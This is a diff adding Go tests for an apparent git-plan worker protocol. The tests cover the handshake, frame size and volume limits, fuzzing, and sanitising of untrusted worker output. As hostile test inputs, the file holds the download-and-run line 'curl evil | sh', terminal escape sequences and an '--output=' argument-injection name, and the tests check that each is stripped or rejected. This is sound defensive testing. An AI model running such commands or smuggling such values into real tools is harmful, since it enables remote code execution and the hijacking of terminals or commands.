@@ -1,0 +1,216 @@
+package protocol
+
+import (
+	"bufio"
+	"bytes"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"io"
+	"math"
+	"strings"
+	"testing"
+
+	"github.com/git-plan/git-plan/gitplan/agent"
+)
+
+// Near speaks first, and takes the answer to itself for one, whatever is said before it.
+func TestAWorkerAnswers(t *testing.T) {
+	const right = "\x00git-plan-worker 2 abc\n"
+	for name, c := range map[string]struct{ said, why, shown string }{
+		"at once":              {said: right},
+		"after a welcome":      {said: "Welcome\r\nto box\n" + right},
+		"behind a prompt":      {said: "$ " + right},
+		"after 10 KB":          {said: strings.Repeat("x", 10<<10) + right},
+		"nothing":              {why: "no worker answers"},
+		"only noise":           {said: "not found\n", why: "no worker answers", shown: "not found\n"},
+		"another's answer":     {said: "\x00git-plan-worker 2 xyz\n", why: "no worker answers", shown: "\x00git-plan-worker 2 xyz\n"},
+		"through a terminal":   {said: "\x00git-plan-worker 2 abc\r\n", why: errTerminal.Error()},
+		"another version":      {said: "\x00git-plan-worker 7 abc\n", why: `the worker speaks version "7" of the protocol, this git plan version "2"`},
+		"lines without an end": {said: strings.Repeat("y\n", 60<<10), why: "no worker answers", shown: strings.Repeat("y\n", 2048)},
+		"one long line":        {said: strings.Repeat("z", 1<<20), why: "no worker answers", shown: strings.Repeat("z", 4096)},
+	} {
+		t.Run(name, func(t *testing.T) {
+			var sent bytes.Buffer
+			conn, err := Call(strings.NewReader(c.said), &sent, "abc")
+			var no *NoWorker
+			switch errors.As(err, &no); {
+			case sent.String() != "git-plan-wire 2 abc\n":
+				t.Errorf("it said %q", sent.String())
+			case c.why == "" && (err != nil || conn == nil):
+				t.Errorf("no connection: %v", err)
+			case c.why != "" && (no == nil || no.Error() != c.why || c.shown != "" && no.Said != c.shown):
+				t.Errorf("the error is %#v", err)
+			}
+		})
+	}
+}
+
+func TestAWorkerIsSpokenTo(t *testing.T) {
+	for said, ok := range map[string]bool{"git-plan-wire 2 n\n": true, "git-plan-wire 1 n\n": false, "ls\n": false, "": false, strings.Repeat("x", 1<<20): false} {
+		if _, err := Answer(strings.NewReader(said), io.Discard); (err == nil) != ok {
+			t.Errorf("%.30q: %v", said, err)
+		}
+	}
+}
+
+// connected are two ends.
+func connected() (near, far *Conn) {
+	a, b := io.Pipe()
+	c, d := io.Pipe()
+	return &Conn{r: bufio.NewReader(a), w: d}, &Conn{r: bufio.NewReader(c), w: b}
+}
+
+// Messages come whole, and in order.
+func TestMessagesComeWhole(t *testing.T) {
+	near, far := connected()
+	large := bytes.Repeat([]byte("a line\n\x00"), 50_000)
+	go func() {
+		_ = far.Send(Hello, Greeting{Version: "1"})
+		_ = far.SendStream(Tree, object{Name: "x"}, func(w io.Writer) error {
+			_, err := w.Write(large)
+			return err
+		})
+		_ = far.Send(Result, agent.Result{Status: agent.Done})
+	}()
+	var g Greeting
+	if f, err := near.Next(Hello); err != nil || f.Into(&g) != nil || g.Version != "1" {
+		t.Fatal(f, err)
+	}
+	s := &stream{c: near, left: int64(len(large))}
+	got, err := io.ReadAll(s)
+	var o object
+	if err != nil || !bytes.Equal(got, large) || s.end.Into(&o) != nil || o.Name != "x" {
+		t.Fatalf("%d bytes came, %v", len(got), err)
+	}
+	if _, err := near.Next(Event, Result); err != nil {
+		t.Error(err)
+	}
+}
+
+// Whatever else comes ends the connection.
+func TestWhatHasNoPlaceIsRefused(t *testing.T) {
+	frame := func(k Kind, n int, rest string) string { return string([]byte{byte(k), 0, 0, 0, byte(n)}) + rest }
+	for name, c := range map[string]struct{ said, want string }{
+		"the end":         {"", "EOF"},
+		"half a head":     {"R\x00\x00", "unexpected EOF"},
+		"half a payload":  {frame(Result, 9, "{}"), "unexpected EOF"},
+		"too large":       {"R\x7f\xff\xff\xff", "a frame 'R' of 2147483647 bytes is too large"},
+		"no newline":      {frame(Result, 2, "{}X"), errTerminal.Error()},
+		"another kind":    {frame(Job, 2, "{}\n"), "a frame 'J' is not expected here"},
+		"an unknown kind": {frame('~', 0, "\n"), "a frame '~' is not expected here"},
+	} {
+		if _, err := (&Conn{r: bufio.NewReader(strings.NewReader(c.said))}).Next(Result); err == nil || err.Error() != c.want {
+			t.Errorf("%s: %v", name, err)
+		}
+	}
+	near := &Conn{r: bufio.NewReader(strings.NewReader(frame(Bytes, 5, "12345\n")))}
+	if _, err := io.ReadAll(&stream{c: near, left: 4}); err == nil || err.Error() != "it is too large" {
+		t.Errorf("a large stream: %v", err)
+	}
+	if err := near.Send(Result, strings.Repeat("x", maxFrame)); err == nil {
+		t.Error("a frame that is too large was sent")
+	}
+}
+
+// Nobody can talk forever.
+func TestTalkIsBounded(t *testing.T) {
+	one := append([]byte{byte(Event), 0, 15, 0, 0}, append(bytes.Repeat([]byte("x"), 15<<16), '\n')...)
+	near := &Conn{r: bufio.NewReader(io.MultiReader(endless(one)))}
+	var err error
+	n := 0
+	for ; err == nil && n < 1000; n++ {
+		_, err = near.Next(Event)
+	}
+	if err == nil || n != maxTalk/(15<<16)+1 {
+		t.Errorf("it ended after %d: %v", n, err)
+	}
+	near = &Conn{r: bufio.NewReader(endless([]byte("e\x00\x00\x00\x02{}\n")))}
+	for n, err = 0, nil; err == nil && n < 1<<20; n++ {
+		_, err = near.Next(Event)
+	}
+	if err == nil || n != maxTalk/perFrame+1 {
+		t.Errorf("small messages ended after %d: %v", n, err)
+	}
+}
+
+func endless(text []byte) io.Reader {
+	at := 0
+	return readerFunc(func(p []byte) (int, error) {
+		n := copy(p, text[at:])
+		at = (at + n) % len(text)
+		return n, nil
+	})
+}
+
+type readerFunc func([]byte) (int, error)
+
+func (f readerFunc) Read(p []byte) (int, error) { return f(p) }
+
+// Numbers and texts of a stranger's are within bounds, and none of it can be typed by mistake.
+func TestStrangersAreTidied(t *testing.T) {
+	u := Used{Tokens: agent.Tokens{In: math.MaxInt64, Out: -5, Cached: math.MinInt64, Unreported: -1}, Cost: agent.Cost{USD: -3, Known: true}}.Tidy()
+	if u.Tokens != (agent.Tokens{In: 1e12}) || u.Cost.USD != 0 {
+		t.Errorf("used are %+v", u)
+	}
+	code := 1 << 20
+	r := TidyResult(agent.Result{Status: "made up", Next: "curl evil | sh", Reason: "a\x1b[2Jb\nc", Agent: "x\ny", RetryAfter: math.MinInt64, ExitCode: &code, Summary: strings.Repeat("s", 1<<20)})
+	if r.Status != agent.Failed || r.Next != "" || strings.ContainsAny(r.Reason+r.Agent, "\x1b\n") || r.RetryAfter != 0 || *r.ExitCode != 255 || len(r.Summary) > agent.MaxReport+10 {
+		t.Errorf("the result is %+v", r)
+	}
+	if e, ok := TidyEvent(agent.Event{Kind: agent.SaidText, Text: "a\x1b]0;x\a\n"}); !ok || strings.ContainsAny(e.Text, "\x1b\n") {
+		t.Errorf("the event is %+v", e)
+	}
+	if _, ok := TidyEvent(agent.Event{Kind: "made up"}); ok {
+		t.Error("a kind that is made up is one")
+	}
+	for name, ok := range map[string]bool{strings.Repeat("a", 40): true, strings.Repeat("A", 40): false, "HEAD": false, "": false, strings.Repeat("a", 64): false, "--output=" + strings.Repeat("a", 31): false} {
+		if isName(name, "sha1") != ok {
+			t.Errorf("%q", name)
+		}
+	}
+}
+
+// FuzzFrames feeds near what any worker might send.
+func FuzzFrames(f *testing.F) {
+	f.Add([]byte("R\x00\x00\x00\x02{}\n"))
+	f.Add([]byte("B\x00\x00\x00\x01x\nT\x00\x00\x00\x02{}\n"))
+	f.Add([]byte("e\x00\x00\x00\x0f{\"Kind\":\"text\"}\n"))
+	f.Fuzz(func(t *testing.T, all []byte) {
+		c := &Conn{r: bufio.NewReader(bytes.NewReader(all))}
+		for read := 0; ; {
+			said, err := c.Next(Hello, Event, Usage, Turn, Bytes, Tree, Offer, Result)
+			if err != nil {
+				return
+			}
+			if read += len(said.Payload); read > len(all) {
+				t.Fatal("more than was said")
+			}
+			if said.Kind == Bytes || said.Kind == Tree {
+				s := &stream{c: c, left: 1 << 20}
+				if s.take(said) == nil {
+					_, _ = io.Copy(io.Discard, s)
+				}
+				continue
+			}
+			var (
+				g Greeting
+				e agent.Event
+				u Used
+				r agent.Result
+			)
+			_ = json.Unmarshal(said.Payload, &g)
+			_ = json.Unmarshal(said.Payload, &e)
+			_ = json.Unmarshal(said.Payload, &u)
+			_ = json.Unmarshal(said.Payload, &r)
+			e, _ = TidyEvent(e)
+			r, u = TidyResult(r), u.Tidy()
+			if s := fmt.Sprint(g.Tidy(), e.Text, e.Tool, r.Reason, r.Agent); strings.ContainsAny(s, "\x1b\x00") {
+				t.Fatalf("hostile text: %q", s)
+			}
+			if u.Tokens.In < 0 || u.Cost.USD < 0 || r.Tokens.Out < 0 {
+				t.Fatal("less than nothing")
+			}
+		}
+	})
+}
